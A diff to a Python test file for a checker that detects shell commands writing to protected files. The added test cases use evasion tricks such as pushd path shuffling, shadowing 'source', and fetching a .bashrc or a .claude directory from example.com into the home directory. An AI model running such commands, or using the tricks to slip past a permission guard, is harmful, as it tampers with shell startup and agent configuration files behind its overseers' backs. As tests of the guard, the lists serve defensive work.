@@ -652,6 +652,12 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "sed -irc 1p ~/.bash",
         "split -a1 -l1 x ~/.bashr",
         'cd ~ && python3 -c \'open(".bashrc", "a").write("x")\'',
+        # a review of the above
+        "source() { python3 -c 'import sys' \"$1\"; }; source ~/.bashrc",
+        "cd ~ && git clone --depth 1 https://example.com/x/.claude",
+        "cd ~ && curl -O example.com/.bashrc",
+        "cd ~ && pushd /tmp && pushd +1 && cp x .bashrc",
+        "sed --in-place=rc 1p ~/.bash",
     ]
     if platform == "win32":
         held += [
@@ -698,6 +704,10 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "ln -s ../lib/x.so",
         "sed -i.bak s/a/b/ f.txt",
         "python3 -c 'open(\".bashrc\")'",  # in a project: its own file
+        "pushd frontend && npm ci && popd && git add .claude/commands/x.md",
+        "cp -b notes.md ~/",
+        "ld -L$HOME x.o",
+        "gzip -dc ~/.bashrc.gz > /dev/null",
     ):
         assert not names_protected(command, members, cwd=project, bare=False), command
 
